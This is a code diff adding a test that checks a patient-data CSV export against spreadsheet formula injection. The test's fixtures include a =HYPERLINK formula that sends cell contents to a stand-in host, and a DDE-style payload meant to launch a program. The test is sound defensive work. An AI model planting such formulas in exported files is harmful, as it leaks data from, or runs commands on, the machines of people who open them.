@@ -165,3 +165,19 @@ def test_an_export_is_in_the_audit_trail_before_its_first_file_is_written(
         ).one()
     assert action == "export_begun"
     assert str(tmp_path / "export") in details
+
+
+def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(store, tmp_path):
+    """Tamper QA: a patient named =HYPERLINK(...) and a note beginning @SUM(...) went out
+    as they were, and a spreadsheet opening the file runs them as formulas."""
+    link = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    patient = store.add_patient(link)
+    session = store.start_session(patient, protocol="IM", zone_name="UTC")
+    store.add_observation(session, "@SUM(1+1)|' /C calc'")
+    store.add_observation(session, "- settled, resting")
+    store.add_observation(session, "calm = settled")  # not at the start: as written
+    store.export_csv(tmp_path / "export")
+    [row] = read(tmp_path / "export", "patients.csv")
+    assert row["display_name"] == "'" + link
+    texts = sorted(r["text"] for r in read(tmp_path / "export", "observations.csv"))
+    assert texts == ["'- settled, resting", "'@SUM(1+1)|' /C calc'", "calm = settled"]
